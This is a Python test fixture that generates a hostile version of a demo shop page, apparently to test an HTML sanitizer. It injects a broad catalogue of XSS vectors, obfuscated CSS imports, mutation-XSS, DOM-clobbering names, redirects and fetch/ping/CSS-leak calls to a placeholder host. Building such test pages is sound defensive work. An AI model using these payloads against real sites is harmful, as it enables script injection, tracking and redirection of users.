"""A hostile page that tries to run scripts, load files and redirect the user."""

import html

import demo_site

CSS = r"""
@import url({away}/import.css); @\69mport "{away}/import2.css"; @namespace x url({away}/ns);
body {{ background: url({away}/css.png); background-image: u\72l("{away}/css2.png"); cursor: url({away}/c.cur), auto }}
p {{ background: image-set("{away}/set.png" 1x); width: expression(alert('expression')); behavior: url({away}/x.htc);
  -moz-binding: url({away}/x.xml#y); list-style: url({away}/list.png); content: url({away}/content.png) }}
@font-face {{ font-family: stolen; src: url({away}/font.woff2) }} * {{ font-family: stolen }}
a[href^="h"] {{ background: url({away}/leak.png) }} </style><script>alert('style')</script><style>
/* </style><img src=x onerror=alert('comment')> */
"""

BODY = r"""
<script>alert('script'); top.location = '{away}/top'; fetch('{away}/fetch')</script>
<script src="{away}/script.js"></script><noscript><img src="{away}/noscript.png"></noscript>
<iframe src="{away}/frame.html"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
</iframe><script>alert('closed')</script>" '><script>alert('quoted')</script>
<frameset><frame src="{away}/frame2.html"></frameset><object data="{away}/object"></object>
<embed src="{away}/embed"><applet code="x" archive="{away}/applet"></applet>
<svg onload="alert('svg')"><script>alert('svg script')</script><use href="{away}/use.svg#x"/>
<image href="{away}/image.png"/><animate onbegin="alert('animate')" attributeName="x" dur="1s"/>
<foreignObject><iframe src="{away}/foreign"></iframe></foreignObject></svg>
<math><a xlink:href="javascript:alert('math')">formula link</a><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror=alert('mutation')&gt;"></table></mtext></math>
<p id="links"><a id="script-link" href="javascript:alert('link')">script link</a>
<a id="tricky" href=" jav&#x09;ascript:alert('tab')">tricky link</a>
<a id="data-link" href="data:text/html,<script>alert('data')</script>">data link</a>
<a id="away" href="{away}/away" target="_top" ping="{away}/ping">a link away</a>
<a id="blank" href="{away}/blank" target="_blank">a link to a new window</a></p>
<form id="form" action="{away}/form" method="post" target="_top"><input name="parentElement" value="x">
<input name="getAttribute" autofocus onfocus="alert('focus')">
<button id="send" formaction="{away}/button">Send the form</button>
<input type="image" src="{away}/input.png"><input type="submit" value="Submit it"></form>
<img src="{away}/img.png" srcset="{away}/set1.png 1x, {away}/set2.png 2x" onerror="alert('img')"
onload="alert('loaded')">
<img name="querySelectorAll" id="documentElement"><form name="documentElement"></form>
<picture><source srcset="{away}/source.webp"><img src="{away}/picture.png"></picture>
<video src="{away}/video.mp4" poster="{away}/poster.png" autoplay><track src="{away}/track.vtt"></video>
<audio src="{away}/audio.mp3" autoplay></audio><table background="{away}/table.png"><tr><td>cell</td></tr></table>
<p style="background: url({away}/inline.png); x: \75rl({away}/inline2.png)">styled words of a paragraph</p>
<details open ontoggle="alert('toggle')"><summary>summary</summary>more</details>
<marquee onstart="alert('marquee')">running words</marquee><body onload="alert('body')" onhashchange="alert('hash')">
<link rel="stylesheet" href="{away}/link.css"><link rel="prefetch" href="{away}/prefetch">
<link rel="preload" as="image" href="{away}/preload.png">
<meta http-equiv="refresh" content="0;url={away}/refresh2"><base href="{away}/base2/">
<template><img src="{away}/template.png"></template>
<div data-husk="0" data-husk-removed data-husk-pinned>false marks</div>
<p>Words that a person could want to read, so that something is content here. They go on for a while.</p>
"""


def page(away: str, *, megabytes: float = 0) -> str:
    """A hostile version of a demo page, of any length. `away` is the host that it would load from."""
    body, css = BODY.format(away=away), CSS.format(away=away)
    head = (
        f'<meta http-equiv="refresh" content="0;url={away}/refresh"><base href="{away}/base/" target="_top">'
        f'<link rel="stylesheet" href="{away}/head.css"><link rel="icon" href="{away}/icon.png">'
        f"<style>{css}</style><title>Hostile {html.escape('</title><script>alert(1)</script>')}</title>"
    )
    long = "<p>One more paragraph of a page that never ends, with words in it.</p>\n" * round(megabytes * 14_500)
    taken = demo_site.pages()["shop/pier-lantern.html"]
    return taken.replace("<head>", f"<head>{head}", 1).replace("</main>", f"{body}{long}</main>", 1)
